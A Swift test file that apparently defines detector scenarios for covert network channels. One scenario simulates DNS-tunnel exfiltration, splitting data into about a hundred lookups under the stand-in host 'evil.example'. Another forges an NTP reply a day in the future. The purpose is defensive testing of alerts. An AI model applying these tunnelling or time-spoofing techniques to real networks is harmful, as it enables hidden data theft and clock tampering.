import Capture
import Decode

extension Scenario {
  /// Family 11xx: what names and time carry beside themselves.
  static let channels: [Scenario] = [
    Scenario(
      "data-in-names", raises: "dns.tunnel", also: ["dns.unlisted-name"],
      "A miner asks for a hundred names below one domain, each of them a piece of a file", survives: []
    ) { stage in
      var generator = SplitMix64(seed: 1_104)
      var tape = Tape()
      for piece in 0..<100 {
        let data = (0..<4).map { _ in String(generator.next(), radix: 32) }.joined()
        var lookup = stage.lookup("\(data.prefix(48)).t\(piece).evil.example")
        (lookup.id, lookup.code) = (UInt16(0x3000 + piece), 3)
        tape.append(stage.play(lookup, after: .milliseconds(500 * piece)))
      }
      return tape
    },
    Scenario(
      "clock-of-tomorrow", raises: "ntp.abuse",
      "The site's own time server serves a time that is a day ahead", survives: []
    ) { stage in
      let server = HealthySite.resolver
      let tomorrow = stage.time.advanced(by: .seconds(86_400))
      return stage.play([
        FrameBytes.udp(
          from: stage.miner, port: 123, to: server, port: 123, payload: NTPBytes.packet(mode: 3, at: stage.time)),
        FrameBytes.udp(
          from: server, port: 123, to: stage.miner, port: 123, payload: NTPBytes.packet(mode: 4, at: tomorrow)),
      ])
    },
  ]
}
